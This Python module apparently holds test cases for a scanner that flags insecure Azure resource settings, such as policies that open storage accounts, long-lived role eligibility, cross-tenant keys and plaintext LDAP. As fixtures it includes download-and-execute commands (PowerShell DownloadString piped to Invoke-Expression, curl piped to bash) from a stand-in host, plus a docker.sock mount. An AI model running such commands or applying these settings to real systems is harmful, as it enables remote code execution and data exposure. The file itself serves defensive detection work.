"""Attacks on Azure by single fields, of policies, rights, sign-in, reviews and whose programs run (2026-11-29).

Found by reading every property of the reviewed types beside networks, machines and storage in pulumi-azure-native
3.29.0, whose descriptions are those of Azure's REST documents, read on 2026-11-29; what `harm` refers to beyond them as
known.
"""

from ..blind import GROUP, HERE, OURS, RG, SUB, THEIR_TENANT, Props
from .fields_azure import ESC, attacks

PRINCIPAL = "22222222-2222-3333-4444-555555555555"
OWNER, CONTRIBUTOR = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635", "b24988ac-6180-42a0-ab88-20f7382dd24c"
READER = f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7"
KEY = "https://kv-bank.vault.azure.net/keys/a/0123456789abcdef0123456789abcdef"
OTHER_KEYS, ROLES, CODE = ("FJ-IDN-211",), ("FJ-IDN-201",), ("FJ-ESC-111",)
POLICIES = ("FJ-ESC-102",)
ACCOUNT = "Microsoft.Storage/storageAccounts"
REVIEW = {"scheduleDefinitionId": "owners", "displayName": "Owners", "autoApplyDecisionsEnabled": True,
          "defaultDecision": "Deny"}  # fmt: skip
SQL = {**HERE, "serverName": "sql", "databaseName": "core"}
IMAGE = {"type": "PlatformImage", "publisher": "canonical", "offer": "ubuntu-24_04-lts", "sku": "server",
         "version": "24.04.202611200"}  # fmt: skip
STRANGER = "https://pipeline.abudhabi.ae"
"""A host that is in the country by its name, and of nobody whom the settings list."""
HUB = "hub-bank.azure-devices.net"
CLUSTER = {**HERE, "clusterName": "spark"}
FETCH = "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://pipeline.abudhabi.ae/a.ps1')"
CONDA = "channels:\n  - conda-forge\n  - ledger-tools\ndependencies:\n  - numpy=2.3.4\n"


def policy(effect: str, details: object, **more: object) -> Props:
    """Returns a definition of Azure Policy on storage accounts."""
    rule = {"if": {"field": "type", "equals": ACCOUNT}, "then": {"effect": effect, "details": details}}
    return {"policyDefinitionName": "storage", "mode": "Indexed", "policyType": "Custom", "policyRule": rule, **more}


def written(field: str, value: object, operation: str = "addOrReplace") -> Props:
    """Returns the details of a policy that modifies a field."""
    contributor = f"/providers/Microsoft.Authorization/roleDefinitions/{CONTRIBUTOR}"
    return {"roleDefinitionIds": [contributor],
            "operations": [{"operation": operation, "field": field, "value": value}]}  # fmt: skip


def eligible(**expiration: str) -> Props:
    """Returns an eligibility for the role of a reader."""
    return {"scope": GROUP, "principalId": PRINCIPAL, "roleDefinitionId": READER,
            "scheduleInfo": {"startDateTime": "2026-11-01T00:00:00Z", "expiration": expiration}}  # fmt: skip


def machine(**more: object) -> Props:
    """Returns a fleet of machines with a profile."""
    return {**HERE, "fleetName": "batch", "computeProfile": {"baseVirtualMachineProfile": more},
            "vmSizesProfile": [{"name": "Standard_D2s_v5"}]}  # fmt: skip


def bulk(**profile: object) -> Props:
    """Returns a hundred machines that are started at once with a profile."""
    return {**HERE, "name": "b", "properties": {
        "capacity": 100, "priorityProfile": {"type": "Regular"}, "vmSizesProfile": [{"name": "Standard_D2s_v5"}],
        "computeProfile": {"virtualMachineProfile": {}, **profile}}}  # fmt: skip


def service(**more: object) -> Props:
    """Returns a compute instance with a service of its own."""
    image = {"type": "docker", "reference": "mcr.microsoft.com/azureml/x@sha256:" + "a" * 64}
    return {**HERE, "workspaceName": "ml", "computeName": "c", "properties": {
        "computeType": "ComputeInstance", "disableLocalAuth": True, "properties": {
            "vmSize": "STANDARD_DS2_V2", "enableNodePublicIp": False, "idleTimeBeforeShutdown": "PT30M",
            "applicationSharingPolicy": "Personal",
            "customServices": [{"name": "x", "image": image, **more}]}}}  # fmt: skip


WRITERS = attacks((
    ("a policy opens the blobs of every account", POLICIES, "authorization:PolicyDefinition",
     policy("modify", written(f"{ACCOUNT}/allowBlobPublicAccess", True)), "critical",
     "modify writes the field whatever each program says (Azure Policy, 'modify effect')"),
    ("a policy opens the network of every account", POLICIES, "authorization:PolicyDefinition",
     policy("modify", written(f"{ACCOUNT}/publicNetworkAccess", "Enabled")), "critical", "the same"),
    ("a policy lets an address into every account", POLICIES, "authorization:PolicyDefinition",
     policy("append", [{"field": f"{ACCOUNT}/networkAcls.ipRules",
                        "value": [{"value": "203.0.113.7", "action": "Allow"}]}]), "critical",
     "append adds to the field (Azure Policy, 'append effect')"),
    ("a policy of a management group gives every account its shared keys",
     POLICIES, "authorization:PolicyDefinitionAtManagementGroup",
     policy("modify", written(f"{ACCOUNT}/allowSharedKeyAccess", True), managementGroupId="bank"), "critical",
     "modify effect"),
    ("the default of a policy's parameter is old TLS", POLICIES, "authorization:PolicyDefinition",
     policy("modify", written(f"{ACCOUNT}/minimumTlsVersion", "[parameters('tls')]"),
            parameters={"tls": {"type": "String", "defaultValue": "TLS1_0"}}), "major", "modify effect, parameters"),
    ("a policy gives passwords to every registry", POLICIES, "authorization:PolicyDefinition",
     policy("modify", written("Microsoft.ContainerRegistry/registries/adminUserEnabled", "true")), "critical",
     "modify effect"),
))  # fmt: skip
RIGHTS = attacks((
    ("users of an environment own its subscription", ROLES, "devcenter:ProjectEnvironmentType",
     {**HERE, "projectName": "p", "environmentTypeName": "prod", "deploymentTargetId": SUB, "status": "Enabled",
      "identity": {"type": "SystemAssigned"}, "userRoleAssignments": {PRINCIPAL: {"roles": [OWNER]}}},
     "critical", "userRoleAssignments"),
    ("what is denied is only recorded", ESC, "authorization:DenyAssignment",
     {"scope": GROUP, "denyAssignmentId": PRINCIPAL, "denyAssignmentName": "d", "denyAssignmentEffect": "audit",
      "permissions": [{"actions": ["*/delete"]}], "principals": [{"id": PRINCIPAL}]}, "major", "denyAssignmentEffect"),
    ("somebody is eligible for ten years", ESC, "authorization:PimRoleEligibilitySchedule",
     eligible(type="AfterDuration", duration="P3650D"), "major", "scheduleInfo.expiration.duration"),
    ("somebody is eligible until 2099", ESC, "authorization:PimRoleEligibilitySchedule",
     eligible(type="AfterDateTime", endDateTime="2099-01-01T00:00:00Z"), "major", "scheduleInfo.expiration"),
    ("nobody approves that a role is activated", ESC, "authorization:RoleManagementPolicy",
     {"scope": SUB, "roleManagementPolicyName": PRINCIPAL, "rules": [{
         "id": "Approval_EndUser_Assignment", "ruleType": "RoleManagementPolicyApprovalRule",
         "setting": {"isApprovalRequired": True, "approvalMode": "NoApproval", "approvalStages": []}}]},
     "major", "setting.approvalMode"),
    ("rights are reviewed every eight years", ESC, "authorization:AccessReviewScheduleDefinitionById",
     {**REVIEW, "type": "absoluteMonthly", "interval": 99}, "minor", "interval"),
    ("the review of rights was over in 2020", ESC, "authorization:AccessReviewScheduleDefinitionById",
     {**REVIEW, "range": {"type": "endDate", "startDate": "2020-01-01", "endDate": "2020-02-01"}}, "minor",
     "range.endDate"),
    ("reviewers of a group's rights have ten years", ESC, "authorization:ScopeAccessReviewScheduleDefinitionById",
     {**REVIEW, "scope": GROUP, "instanceDurationInDays": 3650}, "minor", "instanceDurationInDays"),
    ("administrators of a model are of a stranger's tenant", OTHER_KEYS, "analysisservices:ServerDetails",
     {**HERE, "serverName": "olap", "sku": {"name": "S0", "tier": "Standard"},
      "asAdministrators": {"members": [f"app:{PRINCIPAL}@{THEIR_TENANT}"]}}, "critical",
     "the application reads every model (Analysis Services, 'Add a service principal')"),
    ("everybody with an account at Microsoft has a token for records", ESC, "healthcareapis:FhirService",
     {**HERE, "workspaceName": "health", "fhirServiceName": "records", "kind": "fhir-R4",
      "authenticationConfiguration": {"authority": "https://login.microsoftonline.com/common",
                                      "audience": "https://records.fhir.azurehealthcareapis.com"}},
     "major", "authenticationConfiguration.authority"),
    ("every client of the broker reads every topic", ESC, "eventgrid:TopicSpace",
     {**RG, "namespaceName": "mqtt", "topicSpaceName": "all", "topicTemplates": ["#"]}, "major", "topicTemplates"),
    ("whoever reaches the service attests machines", ESC, "attestation:AttestationProvider",
     {**HERE, "providerName": "tpm", "properties": {"publicNetworkAccess": "Disabled",
                                                    "tpmAttestationAuthentication": "Disabled"}},
     "major", "tpmAttestationAuthentication"),
    ("certificates of devices are valid for ten years", ESC, "deviceregistry:Policy",
     {**HERE, "namespaceName": "site", "policyName": "p", "properties": {"certificate": {
         "certificateAuthorityConfiguration": {"keyType": "ECC"},
         "leafCertificateConfiguration": {"validityPeriodInDays": 3650}}}}, "major", "validityPeriodInDays"),
    ("a login with a password administers the database", ESC, "sqlvirtualmachine:SqlVirtualMachine",
     {**HERE, "sqlVirtualMachineName": "m", "virtualMachineResourceId": f"{OURS}.Compute/virtualMachines/m",
      "serverConfigurationsManagementSettings": {"sqlConnectivityUpdateSettings": {
          "connectivityType": "PRIVATE", "sqlAuthUpdateUserName": "support"}}}, "major", "sqlAuthUpdateUserName"),
    ("an app is connected by a key of the bus", ESC, "servicelinker:Linker",
     {"resourceUri": f"{OURS}.Web/sites/portal", "linkerName": "bus", "authInfo": {"authType": "accessKey"},
      "targetService": {"type": "AzureResource", "id": f"{OURS}.ServiceBus/namespaces/bus"}}, "major", "authType"),
    ("whatever customers delete of an application is gone", ESC, "solutions:ApplicationDefinition",
     {**HERE, "applicationDefinitionName": "a", "lockLevel": "ReadOnly", "lockingPolicy": {"allowedActions": ["*"]},
      "authorizations": [{"principalId": PRINCIPAL, "roleDefinitionId": READER[-36:]}]}, "minor", "lockingPolicy"),
))  # fmt: skip
OF_STRANGERS = attacks((
    ("a database is encrypted with a stranger's key", OTHER_KEYS, "sql:Database",
     {**SQL, "federatedClientId": PRINCIPAL, "encryptionProtector": KEY}, "critical",
     "federatedClientId: the application of a tenant that withdraws the key ('Cross-tenant customer-managed keys')"),
    ("documents are encrypted with a stranger's key", OTHER_KEYS, "cosmosdb:DatabaseAccount",
     {**HERE, "accountName": "docs", "databaseAccountOfferType": "Standard", "keyVaultKeyUri": KEY,
      "locations": [{"locationName": "uaenorth", "failoverPriority": 0}],
      "defaultIdentity": f"UserAssignedIdentity={OURS}.ManagedIdentity/userAssignedIdentities/i"
                         f"&FederatedClientId={PRINCIPAL}"}, "critical", "defaultIdentity"),
    ("records of patients are encrypted with a stranger's key", OTHER_KEYS, "healthcareapis:Service",
     {**HERE, "resourceName": "r", "kind": "fhir-R4", "properties": {"cosmosDbConfiguration": {
         "keyVaultKeyUri": KEY, "crossTenantCmkApplicationId": PRINCIPAL}}}, "critical", "crossTenantCmkApplicationId"),
    ("the machines' image has a program of a stranger", CODE, "virtualmachineimages:VirtualMachineImageTemplate",
     {**HERE, "imageTemplateName": "i", "source": IMAGE, "distribute": [],
      "identity": {"type": "UserAssigned",
                   "userAssignedIdentities": [f"{OURS}.ManagedIdentity/userAssignedIdentities/i"]},
      "customize": [{"type": "Shell", "name": "s", "scriptUri": f"{STRANGER}/agent.sh"}]}, "critical",
     "customize.scriptUri"),
    ("nodes of a cluster run a script of a stranger", CODE, "hdinsight:Cluster",
     {**CLUSTER, "properties": {"computeProfile": {"roles": [{"name": "workernode", "scriptActions": [
         {"name": "a", "uri": f"{STRANGER}/agent.sh", "parameters": ""}]}]}}}, "critical", "scriptActions.uri"),
    ("users of a cluster send passwords in plaintext", ESC, "hdinsight:Cluster",
     {**CLUSTER, "properties": {"securityProfile": {"directoryType": "ActiveDirectory",
                                                    "ldapsUrls": ["ldap://10.0.0.4:389"]}}}, "major", "ldapsUrls"),
    ("users of Cassandra send passwords in plaintext", ESC, "cosmosdb:CassandraDataCenter",
     {**RG, "clusterName": "c", "dataCenterName": "d", "properties": {
         "dataCenterLocation": "uaenorth", "authenticationMethodLdapProperties": {
             "serverHostname": "ldap.corp.internal", "serverPort": 389}}}, "major", "serverPort"),
    ("machines of a fleet run a program when they first start", ("FJ-ESC-109",), "azurefleet:Fleet",
     machine(osProfile={"windowsConfiguration": {"additionalUnattendContent": [{
         "componentName": "Microsoft-Windows-Shell-Setup", "passName": "OobeSystem",
         "settingName": "FirstLogonCommands", "content": f"<CommandLine>powershell {FETCH}</CommandLine>"}]}}),
     "critical", "additionalUnattendContent"),
    ("machines in bulk run a program when they start", ("FJ-ESC-109",), "computebulkactions:BulkAction",
     bulk(extensions=[{"name": "e", "properties": {"settings": {
         "commandToExecute": f"curl {STRANGER}/agent.sh | bash"}}}]), "critical", "extensions"),
    ("machines in bulk have public addresses", ("FJ-EXP-204",), "computebulkactions:BulkAction",
     bulk(virtualMachineProfile={"networkProfile": {"networkInterfaceConfigurations": [{
         "name": "n", "properties": {"ipConfigurations": [{"name": "i", "properties": {
             "publicIPAddressConfiguration": {"name": "p"}}}]}}]}}), "critical", "publicIPAddressConfiguration"),
    ("machines of a fleet have public addresses", ("FJ-EXP-204",), "azurefleet:Fleet",
     machine(networkProfile={"networkInterfaceConfigurations": [{
         "name": "n", "properties": {"ipConfigurations": [{"name": "i", "properties": {
             "publicIPAddressConfiguration": {"name": "p"}}}]}}]}), "critical", "networkInterfaceConfigurations"),
    ("a service of a notebook administers the machine", ESC, "machinelearningservices:Compute",
     service(volumes=[{"type": "bind", "source": "/var/run/docker.sock", "target": "/var/run/docker.sock"}]),
     "critical", "customServices.volumes"),
    ("an environment has programs of a channel of anybody", ESC, "machinelearningservices:EnvironmentVersion",
     {**RG, "workspaceName": "ml", "name": "e", "version": "1", "properties": {
         "condaFile": CONDA, "image": "mcr.microsoft.com/azureml/x@sha256:" + "a" * 64}}, "critical", "condaFile"),
    ("a connector at the site is a program of a stranger", ("FJ-ESC-116",), "iotoperationsmq:DataLakeConnector",
     {**HERE, "mqName": "m", "dataLakeConnectorName": "d", "databaseFormat": "delta", "protocol": "v5",
      "extendedLocation": {"name": f"{OURS}.ExtendedLocation/customLocations/site", "type": "CustomLocation"},
      "target": {"localStorage": {"volumeName": "lake"}},
      "image": {"repository": "pipeline.abudhabi.ae/lake", "tag": "1", "pullPolicy": "Always"}}, "critical", "image"),
    ("the agent of a device is a program of a stranger", ESC, "databoxedge:IoTRole",
     {**RG, "deviceName": "d", "name": "r", "kind": "IOT", "hostPlatform": "Linux", "roleStatus": "Enabled",
      "ioTEdgeAgentInfo": {"imageName": "agent", "tag": "1",
                           "imageRepository": {"imageRepositoryUrl": "pipeline.abudhabi.ae", "userName": "u"}},
      "ioTDeviceDetails": {"deviceId": "d", "ioTHostHub": HUB},
      "ioTEdgeDeviceDetails": {"deviceId": "e", "ioTHostHub": HUB}}, "critical",
     "ioTEdgeAgentInfo.imageRepository"),
    ("machines of a lab run a script of a public repository", ESC, "devtestlab:Formula",
     {**HERE, "labName": "l", "name": "f", "osType": "Linux", "formulaContent": {
         "allowClaim": False, "disallowPublicIpAddress": True, "artifacts": [{
             "artifactId": f"{OURS}.DevTestLab/labs/l/artifactSources/public repo/artifacts/linux-script"}]}},
     "major", "formulaContent.artifacts"),
))  # fmt: skip
ATTACKS = (*WRITERS, *RIGHTS, *OF_STRANGERS)
